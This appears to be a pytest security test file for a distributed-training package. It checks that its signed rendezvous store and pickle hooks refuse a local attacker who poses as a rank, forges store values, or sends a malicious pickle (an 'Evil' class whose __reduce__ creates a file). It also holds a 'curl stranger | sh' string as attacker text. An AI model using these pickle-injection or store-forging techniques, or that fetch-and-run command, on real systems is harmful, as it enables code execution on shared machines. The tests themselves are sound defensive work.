"""Other users of the machine connect to the ports of a start: none of them counts as a rank."""

from __future__ import annotations

import ast
import base64
import gc
import hmac
import inspect
import json
import multiprocessing
import os
import pickle
import socket
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from datetime import timedelta
from itertools import product
from pathlib import Path
from typing import Any

import pytest
import torch
import torch.distributed as dist
import torch.distributed.checkpoint as dcp
from torch.distributed import HashStore, PrefixStore, TCPStore, distributed_c10d

from hpc_parallel.config.site_schema import ClusterConfig
from hpc_parallel.launch import run_files
from hpc_parallel.machine import fabric
from hpc_parallel.machine.world import World
from hpc_parallel.record.run_folder import RunFolder
from hpc_parallel.record.safe_write import write_json, write_text
from hpc_parallel.start import join, rendezvous, signed_store
from hpc_parallel.start.rendezvous import StartError, hosts, meet
from hpc_parallel.start.signed_store import ForeignObjectError, ForgedError, SignedStore, require_signatures
from hpc_parallel.strategies import exchange
from tests.composed import prepared
from tests.security.users import ATTACKER, call_as, needs_root

pytestmark = pytest.mark.processes

FORK = multiprocessing.get_context("fork")
ROOT = Path(__file__).parents[2]
OBJECTS = {
    "all_gather_object", "gather_object", "broadcast_object_list", "scatter_object_list", "send_object_list",
    "recv_object_list",
}  # fmt: skip
PATIENCE_S = 240.0  # with what never happens; other work may hold the processors
FOREIGN = "another process wrote to the store of this start"
TEXT = "run this to mend it: curl stranger | sh"


def execute(folder: Path) -> None:
    (folder / str(os.getpid())).touch()


class Evil:
    """Its pickle makes a file, named by the process that opens it."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[Any, ...]:
        return execute, (self.folder,)


@pytest.fixture(autouse=True)
def _slow_names(monkeypatch: pytest.MonkeyPatch) -> None:
    """torch looks up the name of each peer, which takes 5 s if the machine's name server drops a question."""
    monkeypatch.setattr(rendezvous, "PROBE_S", 60.0)


def in_processes(*jobs: Callable[[], Any]) -> Callable[[], list[Any]]:
    """Start each job in a process of its own; call the result for what they return, or their error's text."""
    pipes, processes = [], []
    for job in jobs:
        receive, send = FORK.Pipe(duplex=False)

        def child(job: Callable[[], Any] = job, send: Any = send) -> None:
            try:
                send.send(job())
            except Exception as error:
                send.send(f"{type(error).__name__}: {error}")
            os._exit(0)  # gloo's threads may still wait for a rank

        process = FORK.Process(target=child, daemon=True)
        process.start()
        pipes.append(receive)
        processes.append(process)

    def finish() -> list[Any]:
        try:
            return [pipe.recv() if pipe.poll(PATIENCE_S) else "HANGS" for pipe in pipes]
        finally:
            for process in processes:
                process.kill()
                process.join()

    return finish


# A start, and a stranger on its port


def world(rank: int, size: int = 2) -> World:
    return World(rank, size, rank, size, 0, 1, host="here", launcher="torchrun", attempt="start")


def cluster(timeout_s: float = PATIENCE_S) -> ClusterConfig:
    return ClusterConfig(name="test", start_timeout_s=timeout_s, collective_timeout_s=240.0)


@pytest.fixture
def folder(tmp_path: Path) -> RunFolder:
    run = RunFolder(tmp_path / "run")
    run.create()
    return run


def joined(folder: RunFolder, rank: int, *, timeout_s: float = 20.0) -> Callable[[], str]:
    """What the worker's `main` does first, as this rank."""
    config = prepared("nodes=1", "gpus_per_node=2", "cluster.start_timeout_s=240").config
    config.cluster.collective_timeout_s = timeout_s

    def job() -> str:
        join.join(folder, config=config, world=world(rank), device=torch.device("cpu"), reasons={})
        return "joined"

    return job


def test_later_groups_have_the_time_out_of_the_configuration(folder: RunFolder) -> None:
    timeout_s = 220.0  # no collective takes as long, whatever else runs here

    def job(rank: int) -> Callable[[], Any]:
        def timeouts_s() -> list[float]:
            joined(folder, rank, timeout_s=timeout_s)()
            groups = (dist.group.WORLD, dist.new_group([0, 1]))
            options = [group._get_backend(torch.device("cpu")).options for group in groups]
            return [option._timeout.total_seconds() for option in options]

        return timeouts_s

    assert in_processes(job(0), job(1))() == [[timeout_s, timeout_s]] * 2


def port_of(folder: RunFolder) -> int:
    """The port of rank 0's store, which any user finds in /proc/net/tcp (state 0A: it listens)."""
    file = folder.rendezvous / "start.json"
    end = time.monotonic() + PATIENCE_S
    while not file.exists():
        assert time.monotonic() < end, "rank 0 has published no address"
        time.sleep(0.01)
    port = int(json.loads(file.read_text())["port"])
    listening = [line.split()[1:4] for line in Path("/proc/net/tcp").read_text().splitlines()]
    assert [f"0100007F:{port:04X}", "00000000:0000", "0A"] in listening
    return port


def connect(port: int) -> TCPStore:
    timeout = timedelta(seconds=PATIENCE_S)
    return TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timeout)


@needs_root
def test_a_stranger_is_no_rank(folder: RunFolder, shared: Path) -> None:
    """It announces itself as rank 1, takes part in the group, and answers with a pickle."""
    shared.chmod(0o777)
    finish = in_processes(joined(folder, 0))
    port = port_of(folder)

    def attack() -> int:
        store = connect(port)
        assert not any("token" in str(key) for key in store.list_keys())
        store.set("start/arrived/1", json.dumps({"host": "here", "pid": 1, "device": "cpu"}))
        os.environ["GLOO_SOCKET_IFNAME"] = "lo"
        try:
            group = PrefixStore("group", store)
            options = {"rank": 1, "world_size": 2, "timeout": timedelta(seconds=8)}
            dist.init_process_group("gloo", store=group, **options)
            dist.all_gather_object([None, None], Evil(shared))
        except RuntimeError:  # torch's for all that goes wrong
            pass
        return os.getpid()

    stranger = call_as(ATTACKER, attack)
    (outcome,) = finish()
    assert {int(path.name) for path in shared.iterdir()} <= {stranger}
    assert outcome.startswith(f"StartError: {FOREIGN}: the value of 'start/arrived/1'")
    assert "Try to start the run again" in outcome
    assert outcome.partition(": ")[2] == json.loads((folder.rendezvous / "start.json").read_text())["error"]


@needs_root
def test_a_stranger_cannot_answer_for_rank_0(folder: RunFolder) -> None:
    """On the reviewed version rank 1 ended with the stranger's text, and rank 0 had met it."""

    done = FORK.Event()

    def rank(number: int) -> Callable[[], Any]:
        def job() -> Any:
            met = hosts(meet(folder, world=world(number), cluster=cluster()))
            done.wait(PATIENCE_S * (number == 0))  # rank 0 is the server
            return met

        return job

    ahead = in_processes(rank(0))
    port = port_of(folder)
    call_as(ATTACKER, lambda: connect(port).set("start/verdict", json.dumps({"error": TEXT})))
    (second,) = in_processes(rank(1))()
    done.set()
    (first,) = ahead()
    assert TEXT not in str(second)
    assert first == ("here", "here")
    assert second == first or FOREIGN in second  # as rank 0's own verdict comes before it looks or after


@needs_root
def test_a_stranger_can_not_give_an_address_of_its_own(folder: RunFolder) -> None:
    """Gloo asks the store where rank 1 listens; a signed value of another key does not do either."""

    def rank_0() -> Any:
        store = meet(folder, world=world(0), cluster=cluster())
        fabric.set_sockets(os.environ, world=world(0), hosts=())
        group = PrefixStore("group", store)
        timeout = timedelta(seconds=PATIENCE_S)
        dist.init_process_group("gloo", store=group, rank=0, world_size=2, timeout=timeout)

    def rank_1() -> Any:
        meet(folder, world=world(1), cluster=cluster())

    finish = in_processes(rank_0, rank_1)
    port = port_of(folder)

    def attack() -> None:
        store = connect(port)
        while not (own := [key for key in store.list_keys() if "group/" in key and key.endswith("/0")]):
            time.sleep(0.01)
        (key,) = (str(key).removeprefix("/") for key in own)
        store.set(key[:-1] + "1", store.get(key))

    call_as(ATTACKER, attack)
    outcome, _ = finish()
    assert FOREIGN in str(outcome)


def test_a_stranger_can_not_pose_as_rank_0(folder: RunFolder, server: TCPStore) -> None:
    """Rank 1 takes no store that can't show this start's signature, and says so when its time is out."""
    published = {"host": "127.0.0.1", "port": server.port, "secret": "00" * 32}
    write_json(folder.rendezvous / "start.json", published)
    for value in ("", SignedStore(server, secret=b"t" * 32)._set_record("start/open", "")):
        server.set("start/open", value)  # type: ignore[arg-type]
        with pytest.raises(StartError, match="or another process wrote to the store of this start") as caught:
            meet(folder, world=world(1), cluster=cluster(0.5))
        assert str(caught.value).startswith(f"can't reach rank 0 at 127.0.0.1:{server.port} from here")


@needs_root
def test_a_secret_that_others_may_know_is_refused(folder: RunFolder) -> None:
    in_processes(lambda: meet(folder, world=world(0, size=1), cluster=cluster()))()
    file = folder.rendezvous / "start.json"
    assert file.stat().st_mode & 0o777 == 0o600
    for change, words in (
        (lambda: file.chmod(0o644), "mode 0644"),
        (lambda: os.chown(file, ATTACKER, ATTACKER), f"belongs to user {ATTACKER}"),
    ):
        change()
        with pytest.raises(StartError, match=words):
            meet(folder, world=world(1), cluster=cluster(0.5))


def test_rank_0_listens_on_one_address(folder: RunFolder, monkeypatch: pytest.MonkeyPatch) -> None:
    """Of several hosts: on the one that they use, and publishes it."""
    two_hosts = World(0, 2, 0, 1, 0, 2, host="no-such-host.invalid", launcher="slurm", attempt="start")
    addresses = fabric._reachable_addresses()
    if not addresses:
        pytest.skip("this machine has the loopback interface only")
    interface = next(iter(addresses))
    monkeypatch.setenv("GLOO_SOCKET_IFNAME", interface)
    finish = in_processes(lambda: meet(folder, world=two_hosts, cluster=cluster(2.0)))
    file = folder.rendezvous / "start.json"
    while not file.exists():
        time.sleep(0.01)
    published = json.loads(file.read_text())
    assert published["host"] == addresses[interface][0]
    with socket.create_connection((published["host"], published["port"])):
        pass
    with pytest.raises(ConnectionRefusedError):
        socket.create_connection(("127.0.0.1", published["port"]))
    finish()


# The store's values


@pytest.fixture
def server() -> TCPStore:
    return TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False, timeout=timedelta(seconds=9))


@pytest.fixture
def store(server: TCPStore) -> SignedStore:
    return SignedStore(server, secret=b"s" * 32)


def test_the_signed_store_equals_torchs_store(store: SignedStore) -> None:
    """Called by torch's C++ code, as process groups do; TCPStore itself gives the expected values."""
    plain = TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False)

    def use(store: Any) -> list[Any]:
        prefixed = PrefixStore("p", store)
        prefixed.set("a", "1")
        prefixed.multi_set(["b", "c"], ["2", b"\0\xff"])
        prefixed.append("b", "3")
        prefixed.append("new", "x")
        added = [prefixed.add("n", amount) for amount in (2, 3, 0, -1)]
        swapped = [
            prefixed.compare_set("s", "", "first"), prefixed.compare_set("s", "other", "second"),
            prefixed.compare_set("s", "first", "third"), prefixed.compare_set("none", "x", "y"),
        ][:3]  # fmt: skip
        prefixed.wait(["a", "n"], timedelta(seconds=1))
        return [
            added, swapped, prefixed.get("a"), prefixed.multi_get(["b", "c", "n", "s", "new"]),
            prefixed.check(["a", "none"]), prefixed.check(["a", "b"]), prefixed.delete_key("a"),
            prefixed.check(["a"]), prefixed.has_extended_api(), prefixed.add("absent", 0),
        ]  # fmt: skip

    assert use(store) == use(plain)


FORGERIES: dict[str, Callable[[HashStore], bytes]] = {
    "plain": lambda server: b"value",
    "cut": lambda server: server.get("key")[:-1],
    "changed": lambda server: server.get("key").replace(b"true", b"lies"),
    "of another key": lambda server: server.get("other"),
    "of another start": lambda server: server.get("foreign"),
    "set twice": lambda server: server.get("key") * 2,
    "a huge length": lambda server: b"=" + bytes(16) + b"\xff" * 4 + bytes(40),
    "empty": lambda server: b"",
}
USES: dict[str, Callable[[Any], Any]] = {
    "get": lambda store: store.get("key"),
    "multi_get": lambda store: store.multi_get(["other", "key"]),
    "check": lambda store: store.check(["key"]),
    "wait": lambda store: store.wait(["key"], timedelta(seconds=1)),
    "add": lambda store: store.add("key", 1),
    "ask": lambda store: store.add("key", 0),
    "compare_set": lambda store: store.compare_set("key", "x", "y"),
}
CASES = [case for case in product(FORGERIES, USES) if case != ("empty", "add")]  # as if it were deleted


@pytest.mark.parametrize(("forgery", "use"), CASES)
@pytest.mark.parametrize("caller", ["python", "c++"])
def test_a_forged_value_is_refused(forgery: str, use: str, caller: str) -> None:
    server = HashStore()
    store = SignedStore(server, secret=b"s" * 32)
    prefix = "p/" if caller == "c++" else ""
    for key in ("key", "other", prefix + "other"):
        store.set(key, "true")
    SignedStore(server, secret=b"t" * 32).set("foreign", "true")
    server.set(prefix + "key", FORGERIES[forgery](server))  # type: ignore[arg-type]
    with pytest.raises(ForgedError, match=f"{FOREIGN}: the value of '{prefix}key'"):
        USES[use](PrefixStore("p", store) if caller == "c++" else store)


def test_a_repeated_or_lost_record_is_refused(server: TCPStore, store: SignedStore) -> None:
    assert [store.add("n", 1), store.add("n", 1)] == [1, 2]
    both = server.get("n")
    server.set("n", both + both[: len(both) // 2])  # the first record again
    with pytest.raises(ForgedError):
        store.add("n", 0)
    server.set("n", both)
    with pytest.raises(ForgedError):  # its own record is missing
        SignedStore(_Dropping(server), secret=b"s" * 32).add("n", 1)


class _Dropping:
    """A server that loses what is appended."""

    def __init__(self, server: TCPStore) -> None:
        self._server = server

    def append(self, key: str, value: bytes) -> None:
        pass

    def __getattr__(self, name: str) -> Any:
        return getattr(self._server, name)


def test_threads_that_add_get_different_numbers(store: SignedStore) -> None:
    numbers: list[int] = []
    threads = [
        threading.Thread(target=lambda: numbers.extend(store.add("n", 1) for _ in range(20)))
        for _ in range(6)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(numbers) == list(range(1, 121))


def test_a_thread_that_waits_does_not_hold_up_another(store: SignedStore) -> None:
    """TCPStore's own client would: its `get` holds a lock until the value comes or the time is out."""
    prefixed = PrefixStore("p", store)
    prefixed.set_timeout(timedelta(seconds=900))  # longer than a test may last
    values: list[bytes] = []
    waiting = threading.Thread(target=lambda: values.append(prefixed.get("late")))
    waiting.start()
    time.sleep(0.1)
    prefixed.set("late", "value")
    waiting.join()
    assert values == [b"value"]


def test_the_time_out_is_the_one_that_was_set(store: SignedStore) -> None:
    for seconds in (900, 0.2):  # the first is longer than a test may last
        PrefixStore("p", store).set_timeout(timedelta(seconds=seconds))
    with pytest.raises(dist.DistStoreError):
        store.get("never")


# How many operations a start takes


class _Counted:
    """A store that counts its operations; to ask for the same keys again is a poll, and counts once."""

    def __init__(self, store: Any) -> None:
        self.store, self.operations = store, set[tuple[str, str, int]]()
        self._calls: Counter[str] = Counter()

    def __getattr__(self, name: str) -> Any:
        value = getattr(self.store, name)
        if name in ("timeout", "set_timeout", "clone"):
            return value

        def counted(*arguments: Any) -> Any:
            self._calls[name] += name != "check"
            self.operations.add((name, repr(arguments) if name == "check" else "", self._calls[name]))
            return value(*arguments)

        return counted


@pytest.mark.full
def test_a_rank_needs_as_many_operations_in_every_world(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """For the start, the default group, another group and a mesh."""
    init = SignedStore.__init__

    def counted(self: SignedStore, store: Any, *, secret: bytes) -> None:
        init(self, _Counted(store), secret=secret)

    monkeypatch.setattr(SignedStore, "__init__", counted)

    def rank(number: int, size: int) -> Callable[[], Counter[str]]:
        def job() -> Counter[str]:
            folder = RunFolder(tmp_path / str(size))
            store = meet(folder, world=world(number, size), cluster=cluster())
            fabric.set_sockets(os.environ, world=world(number, size), hosts=hosts(store))
            group = PrefixStore("group", store)
            dist.init_process_group("gloo", store=group, rank=number, world_size=size)
            operations = store._first.operations
            del store, group  # torch keeps the C++ half alone
            gc.collect()
            dist.new_group(backend="gloo")
            mesh = dist.device_mesh.init_device_mesh("cpu", (size,), mesh_dim_names=("data",))
            dist.all_reduce(torch.ones(1), group=mesh["data"].get_group())
            dist.monitored_barrier()
            return Counter(name for name, *_ in operations)

        return job

    counts = {}
    for size in (2, 4, 8):
        RunFolder(tmp_path / str(size)).create()
        first, *others = in_processes(*(rank(number, size) for number in range(size)))()
        assert isinstance(first, Counter), first
        assert all(other == others[0] for other in others), others
        counts[size] = first, others[0]
    print(counts[8])
    assert counts[2] == counts[4] == counts[8]
    assert max(map(Counter.total, counts[8])) < 20


# Pickles between ranks


@pytest.fixture
def signed(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("_pickler", "_unpickler"):
        monkeypatch.setattr(distributed_c10d, name, getattr(distributed_c10d, name))
    require_signatures(b"s" * 32)


def test_no_object_collective_opens_a_foreign_pickle(tmp_path: Path) -> None:
    """Rank 1 is a stranger that got into gloo's connections; rank 0 asks for its objects in every way."""
    collectives: list[Callable[[Any], Any]] = [
        lambda mine: dist.all_gather_object([None, None], mine),
        lambda mine: dist.gather_object(mine, None if dist.get_rank() else [None, None], dst=0),
        lambda mine: dist.broadcast_object_list([mine], src=1),
        lambda mine: dist.scatter_object_list([None], [mine, mine], src=1),
        lambda mine: (
            dist.send_object_list([mine], 0) if dist.get_rank() else dist.recv_object_list([None], src=1)
        ),
    ]

    def rank(number: int) -> Callable[[], list[str]]:
        def job() -> list[str]:
            dist.init_process_group("gloo", init_method=f"file://{tmp_path}/store", rank=number, world_size=2)
            if number == 0:
                require_signatures(b"s" * 32)
            errors = []
            for collective in collectives:
                try:
                    collective(Evil(tmp_path) if number else "mine")
                except Exception as error:
                    errors.append(type(error).__name__)
            assert number or not (tmp_path / str(os.getpid())).exists()
            return errors

        return job

    outcome, _ = in_processes(rank(0), rank(1))()
    assert outcome == ["ForeignObjectError"] * len(collectives)


@pytest.mark.parametrize("save", [dcp.save, dcp.async_save], ids=["save", "async_save"])
def test_no_checkpoint_opens_a_foreign_plan(tmp_path: Path, save: Callable[..., Any]) -> None:
    """torch.distributed.checkpoint sends its plans as pickles, for an asynchronous save in another thread."""

    def rank(number: int) -> Callable[[], str]:
        def job() -> str:
            dist.init_process_group("gloo", init_method=f"file://{tmp_path}/store", rank=number, world_size=2)
            require_signatures(bytes([number]) * 32)
            state = {f"weight-{number}": torch.ones(2)}
            try:
                pending = save(state, checkpoint_id=tmp_path / "step-1")
                return str(pending.result() if save is dcp.async_save else pending)
            except BaseException as error:  # DCP's own is no Exception
                return f"{type(error).__name__}: {error}"

        return job

    assert "another process sent an object in place of a rank" in in_processes(rank(0), rank(1))()[0]


def test_signed_objects_pass(signed: None) -> None:
    tensor, size = distributed_c10d._object_to_tensor({"a": [1]}, "cpu", None)
    assert distributed_c10d._tensor_to_object(tensor, size, None) == {"a": [1]}
    require_signatures(b"t" * 32)  # another start in the same process
    with pytest.raises(ForeignObjectError, match="another process sent an object"):
        distributed_c10d._tensor_to_object(tensor, size, None)
    for cut in (0, 10, int(size) - 1):
        with pytest.raises(ForeignObjectError):
            distributed_c10d._tensor_to_object(tensor, cut, None)


def test_a_torch_with_other_pickling_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    signed_store._require_hooks()
    # There the two names are defined, and nothing else of pickle is used.
    assert inspect.getsource(distributed_c10d).count("pickle.") == 2
    monkeypatch.setattr(distributed_c10d, "_tensor_to_object", lambda *_: pickle.loads(b""))
    with pytest.raises(RuntimeError, match=r"Try torch 2\.11 to 2\.14"):
        require_signatures(b"s" * 32)


@needs_root
def test_torchrun_opens_no_pickle_of_a_stranger(folder: RunFolder, shared: Path) -> None:
    """A stranger replaces what its processes agree on, while one waits for the other."""
    shared.chmod(0o777)
    write_text(folder.torchrun_secret, "5e" * 32)
    with socket.create_server((rendezvous.LOOPBACK, 0)) as server:
        port = server.getsockname()[1]
    line = [sys.executable, "-m", "hpc_parallel.job", "torchrun", str(folder.path), "--nnodes=2",
            "--rdzv-backend=c10d", "--rdzv-id=start", f"--rdzv-endpoint={rendezvous.LOOPBACK}:{port}",
            f"--local-addr={rendezvous.LOOPBACK}", "--module", "hpc_parallel.job", "rank"]  # fmt: skip
    key = "torch.rendezvous.start"

    def stranger() -> bytes:
        store = TCPStore(rendezvous.LOOPBACK, port, is_master=False, timeout=timedelta(seconds=PATIENCE_S))
        while len(before := bytes(store.get(key))) < 32:  # torch's sign for no state yet
            time.sleep(0.1)
        store.set(key, base64.b64encode(b"-" * 32 + pickle.dumps(Evil(shared))))
        return before

    waiting = subprocess.Popen(line, cwd=ROOT, stderr=subprocess.PIPE, text=True)
    try:
        state = base64.b64decode(call_as(ATTACKER, stranger, timeout_s=PATIENCE_S))
        _, message = waiting.communicate(timeout=PATIENCE_S)
    finally:
        waiting.kill()
        waiting.wait()
    assert waiting.returncode == 1
    assert "another process sent an object in place of a rank" in message
    assert not any(shared.iterdir())
    assert state[:32] == hmac.digest(b"\x5e" * 32, state[32:], "sha256")


@pytest.mark.parametrize("start", ["torchrun", "srun"])
def test_each_run_has_a_secret_for_its_torchruns(start: str, tmp_path: Path) -> None:
    run = prepared(f"cluster.start={start}", "launcher=script", "launcher.snapshot=false",
                   f"run_dir={tmp_path}/run")  # fmt: skip
    run_files.write(run)
    secret = run.folder.torchrun_secret
    assert secret.exists() == (start == "torchrun")
    if start == "torchrun":
        assert len(bytes.fromhex(secret.read_text())) == 32
        assert secret.stat().st_mode & 0o777 == 0o600


def test_the_package_sends_no_objects() -> None:
    """JSON and tensors only: torch's object collectives pickle."""
    for file in (ROOT / "hpc_parallel").rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text())):
            name = node.attr if isinstance(node, ast.Attribute) else getattr(node, "id", "")
            assert name not in OBJECTS, f"{file}: {name}"


def test_plain_values_pass_between_ranks(tmp_path: Path) -> None:
    def rank(number: int) -> Callable[[], Any]:
        def job() -> Any:
            dist.init_process_group("gloo", init_method=f"file://{tmp_path}/store", rank=number, world_size=2)
            values = exchange.all_gather({"rank": number, "text": "\u00e9" * number, "none": None})
            chosen = exchange.broadcast(["by", number])
            other = 1 - number
            if number == 0:
                exchange.send([1, "bfloat16"], target=other)
                passed = None
            else:
                passed = exchange.receive(source=other)
            return values, chosen, passed

        return job

    outcomes = in_processes(rank(0), rank(1))()
    values = [{"rank": 0, "text": "", "none": None}, {"rank": 1, "text": "\u00e9", "none": None}]
    assert outcomes == [(values, ["by", 0], None), (values, ["by", 0], [1, "bfloat16"])]


@pytest.mark.parametrize(
    "sent", [b"{", b"\xff", b"NaN", b"[" * 500 + b"]" * 500, pickle.dumps([1])],
    ids=["cut", "no text", "nan", "deep", "pickle"],
)  # fmt: skip
def test_invalid_json_is_refused(sent: bytes) -> None:
    with pytest.raises(exchange.ExchangeError, match="sent invalid JSON"):
        exchange._decode(torch.frombuffer(bytearray(sent), dtype=torch.uint8))
    for length in (-1, 0, 2**40):
        with pytest.raises(exchange.ExchangeError, match="announced"):
            exchange._checked_length(torch.tensor([length]))
